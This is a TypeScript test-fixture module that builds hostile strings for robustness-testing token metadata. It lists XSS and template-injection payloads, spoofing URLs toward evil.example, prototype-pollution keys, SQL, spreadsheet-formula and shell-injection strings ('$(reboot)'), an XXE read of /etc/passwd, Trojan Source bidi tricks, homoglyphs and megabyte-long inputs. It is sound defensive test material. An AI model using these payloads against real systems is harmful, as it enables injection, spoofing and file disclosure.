/** Texts that a stranger could put into any property of a token, made systematically from tables. */

export type HostileString = {
  readonly name: string;
  /** Some have 1 MB, and are built when they are read. */
  readonly text: string;
};

const char = (code: number) => String.fromCodePoint(code);
const codeOf = (code: number) => `U+${code.toString(16).toUpperCase().padStart(4, '0')}`;
const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, at) => from + at);

const listed = (kind: string, texts: readonly string[]): HostileString[] =>
  texts.map((text, at) => ({ name: `${kind} ${at + 1}: ${text.slice(0, 40)}`, text }));

const named = (kind: string, texts: Readonly<Record<string, string>>): HostileString[] =>
  Object.entries(texts).map(([name, text]) => ({ name: `${kind}: ${name}`, text }));

/** Each of them in the middle of a name. */
const inside = (kind: string, codes: readonly number[]): HostileString[] =>
  codes.map((code) => ({ name: `${kind} ${codeOf(code)} in a name`, text: `Fern${char(code)}wood` }));

/** Each of them with nothing else. */
const alone = (kind: string, codes: readonly number[]): HostileString[] =>
  codes.map((code) => ({ name: `${kind} ${codeOf(code)} alone`, text: char(code) }));

const MEGABYTE = 1_000_000;

const long = (name: string, unit: string, length = MEGABYTE): HostileString => ({
  name: `${length} units of ${name}`,
  get text() {
    return unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
  },
});

const MARKUP = [
  '<script>alert(1)</script>', '</script><script>alert(1)</script>', '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>', '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example/"><input name=key autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">Fernwood</a>', '<!-- ', '--><script>alert(1)</script><!--',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '</title><script>alert(1)</script>', '</bdi></span></div></template></article>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<plaintext>',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#x202e;&zwj;&nbsp;&shy;', '"onmouseover="alert(1)',
  '"><script>alert(1)</script>', "'><script>alert(1)</script>", '`onmouseover=alert(1)',
  '</style><script>alert(1)</script>', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '<\0script>alert(1)</script>',
];

const TEMPLATES = [
  '{{7*7}}', '{{constructor.constructor("alert(1)")()}}', '{%7*7%}', '${alert(1)}', '`${alert(1)}`', '#{7*7}',
  '<%= 7*7 %>', '[[7*7]]', '$1$2$&$`$\'', '$<name>', '__MSG_extName__', '$NAME$', '%s%d%n%x',
];

const ADDRESSES = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', '\x01javascript:alert(1)',
  'javascript://fernwood.example/%0aalert(1)', 'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'blob:https://fernwood.example/0', 'file:///etc/passwd', 'about:blank', 'chrome://settings',
  'chrome-extension://aaaa/popup.html', 'https://fernwood.example@evil.example/',
  'https://fernwood.example\\@evil.example/', 'https://evil.example/#https://fernwood.example/',
  '//evil.example/', 'https://[::1]/', 'https://127.0.0.1/', 'https://xn--frnwood-gva.example/',
  'https://f\u0435rnwood.example/', 'https://fernwood\u3002example/',
  'https://fernwood.example\u2044@evil.example/', 'https://fernwood.example/\u202egnp.exe', 'https://',
  'ipfs://../../etc/passwd', 'mailto:x@evil.example?body=<script>',
];

const KEYS = [
  '__proto__', 'constructor', 'prototype', 'constructor.prototype', 'toString', 'toJSON', 'length',
  'hasOwnProperty', '__defineGetter__', '{"__proto__":{"polluted":true}}', 'undefined', 'null', 'Infinity',
  '9007199254740993', 'true', '[object Object]', '0', 'dangerouslySetInnerHTML', 'children',
];

const ELSEWHERE = [
  "' OR '1'='1", "'; DROP TABLE tokens; --", '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://evil.example/","Fernwood")', 'a,b;c\td"e""f\ng', '../../../../etc/passwd', 'CON',
  '$(reboot)', '| reboot', '\\', '"', "'", '\\0', '%00', '%E0%A4%A', '(a+)+$', '[', '(?<=x)*',
  '\x1b[31mred\x1b[0m', '\x1b]8;;https://evil.example/\x07Fernwood\x1b]8;;\x07', 'a\r\nSet-Cookie: a=b',
  'GET / HTTP/1.1\r\n\r\n',
];

export const BIDI_CONTROLS: readonly number[] = [
  0x61c, 0x200e, 0x200f, ...range(0x202a, 0x202e), ...range(0x2066, 0x2069),
];

/** None of them is at home in `Fernwood`. */
export const INVISIBLES: readonly number[] = [
  0xad, 0x34f, 0x115f, 0x1160, 0x17b4, 0x17b5, ...range(0x180b, 0x180f), ...range(0x200b, 0x200d),
  ...range(0x2060, 0x2065), ...range(0x206a, 0x206f), 0x3164, ...range(0xfe00, 0xfe0f), 0xfeff, 0xffa0,
  0xfff0, ...range(0xfff9, 0xfffb), 0x1bca0, 0x1d173, 0xe0000, 0xe0001, 0xe0020, 0xe0041, 0xe007f, 0xe0100,
  0xe01ef, 0xe0fff,
];

/** Of each kind that is shown as U+FFFD, all or a few. */
export const UNSHOWABLES: readonly number[] = [
  ...range(0x00, 0x08), ...range(0x0b, 0x1f), ...range(0x7f, 0x9f), 0x2028, 0x2029, 0xd800, 0xdbff, 0xdc00,
  0xdfff, 0xe000, 0xf8ff, 0xfdd0, 0xfdef, 0xfffc, 0xfffe, 0xffff, 0x1ffff, 0xf0000, 0x10ffff,
];

const DIRECTIONS = {
  'a file that turns its ending round': 'photo\u202egnp.exe',
  'an override that is never ended': '\u202eFernwood', 'an end without a beginning': 'Fernwood\u202c\u2069',
  'isolates within overrides': '\u202d\u2067\u202eabc\u2069\u202cdef\u2066ghi',
  'an address turned round': '\u202elpmaxe.live//:sptth',
  'marks around every letter': 'Fernwood'.replace(/./g, '\u200e$&\u200f'),
  'the source of a trojan': '/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */',
};

/** Text in tag characters, which no font draws. */
const inTags = (text: string) => text.replace(/./g, (one) => char(0xe0000 + one.charCodeAt(0)));

const HIDDEN = {
  'a word between letters': 'F\u200b\u200c\u200b\u200b\u200c\u200berntree\u200c\u200b\u200b\u200c',
  'a sentence in tags': `Fern${inTags('buy this now')}`,
  'a flag of tags without an end': '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}',
  'bytes in variation selectors': `\u{1f600}${range(0xe0100, 0xe01ef).map(char).join('')}`,
  'a keycap without its cap': '1\ufe0f',
  'joiners between emoji that do not join': '\u{1f600}\u200d\u{1f600}\u200d\u{1f600}',
  'a joiner at the end of an emoji': '\u{1f469}\u200d',
  'a non-joiner after an Arabic letter that never joins': '\u062f\u200c\u0628',
  'a non-joiner after a virama and before Latin': '\u0915\u094d\u200ca',
  'only zero-width spaces': '\u200b'.repeat(20), 'only blanks of many kinds': ' \u00a0\u2003\u3000\t\n',
  'only braille blanks': '\u2800\u2800\u2800', 'an invisible plus': '1\u20641',
};

/** A base, and the mark to be stacked on it. */
const MARKS: Readonly<Record<string, readonly [string, string]>> = {
  'graves on a': ['a', '\u0300'], 'Thai vowels': ['\u0e01', '\u0e47'], 'Arabic shaddas': ['\u0628', '\u0651'],
  'Devanagari signs': ['\u0915', '\u0947'], 'marks on an emoji': ['\u{1f600}', '\u0301'],
  'marks on a space': [' ', '\u0308'],
};

const stacks = Object.entries(MARKS).flatMap(([name, [base, mark]]) =>
  [6, 20, 1000].map((count) => ({ name: `stack: ${count} ${name}`, text: base + mark.repeat(count) })),
);

const STACKS = {
  'every letter buried': 'Fernwood'.replace(/./g, (letter) => letter + range(0x300, 0x36f).map(char).join('')),
  'marks parted by zero-width spaces': `a${'\u0300\u200b'.repeat(30)}`,
  'marks parted by bidi controls': `a${'\u0300\u200e'.repeat(30)}`,
  'marks on nothing at all': '\u0300'.repeat(30),
};

/** Sound texts that careless code breaks. */
const SOUND = {
  empty: '', 'one space': ' ', 'a family': '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  'a flag': '\u{1f1ef}\u{1f1f5}',
  'the flag of England': '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
  'a keycap': '#\ufe0f\u20e3', 'a skin tone': '\u{1f44b}\u{1f3fd}', 'a Hebrew name': '\u05e9\u05e7\u05d3',
  'an Arabic name': '\u0642\u0645\u0631',
  'a Hebrew name with Latin in it': '\u05e9\u05e7\u05d3 Fernwood (2) \u05e9',
  'Arabic with digits and brackets': '\u0642\u0645\u0631 (123) [\u0664\u0665]',
  'a Japanese name': '\u96ea\u898b\u30c8\u30fc\u30af\u30f3',
  'a Thai name': '\u0e17\u0e35\u0e48\u0e19\u0e35\u0e48',
  'a name in Plane 1': '\u{1d571}\u{1d58a}\u{1d597}\u{1d593}', 'the widest character': '\ufdfd\ufdfd\ufdfd',
  'capitals that grow': '\u00df\ufb03\u0130\u0149', 'a replacement character': 'Fern\ufffdwood',
  'newlines of all kinds': 'a\nb\r\nc\rd\u2028e\u0085f',
};

const LOOKALIKES = {
  'Cyrillic e': 'F\u0435rnwood', 'Greek omicron': 'Fernw\u03bfod',
  mathematical: '\u{1d5d9}\u{1d5d8}\u{1d5e5}\u{1d5e1}', 'capital i for l': 'Da\u0406\u0456 IlI1|',
  'no-break space': 'Fern\u00a0wood', 'composed and not': 'caf\u00e9 cafe\u0301', 'dotless i': 'M\u0131ca',
  'slash of division': 'a\u2215b\u2044c',
};

/** What a text of a megabyte is made of. */
const UNITS = {
  'one letter': 'a', spaces: ' ', newlines: '\n', NUL: '\0', 'combining marks': '\u0301',
  'zero-width joiners': '\u200d', 'zero-width spaces': '\u200b', overrides: '\u202e',
  'joined emoji': '\u{1f469}\u200d\u{1f680}', 'one emoji joined with itself': '\u{1f600}\u200d',
  'black flags with a tag': '\u{1f3f4}\u{e0067}', 'high surrogates': '\ud83d', 'halves of flags': '\u{1f1ef}',
  'consonants joined': '\u0915\u094d\u200d', 'Persian non-joiners': '\u0645\u200c',
  'braille blanks': '\u2800', 'opened tags': '<b>', 'mixed directions': 'a\u05d0', words: 'Fernwood ',
};

const LONG: readonly HostileString[] = [
  ...Object.entries(UNITS).map(([name, unit]) => long(name, unit)),
  long('an unbroken word', 'Fernwood', 5_000),
  long('an unbroken word', 'Fernwood', 500),
  long('hex digits', '0123456789abcdef', 120),
  long('hex digits', '0123456789abcdef', 20_000),
];

export const HOSTILE: readonly HostileString[] = [
  ...listed('markup', MARKUP),
  ...listed('template', TEMPLATES),
  ...listed('address', ADDRESSES),
  ...listed('key', KEYS),
  ...listed('elsewhere', ELSEWHERE),
  ...inside('bidi control', BIDI_CONTROLS),
  ...inside('invisible', INVISIBLES),
  ...alone('invisible', INVISIBLES),
  ...inside('unshowable', UNSHOWABLES),
  ...named('direction', DIRECTIONS),
  ...named('hidden', HIDDEN),
  ...stacks,
  ...named('stack', STACKS),
  ...named('sound', SOUND),
  ...named('lookalike', LOOKALIKES),
  ...LONG,
];
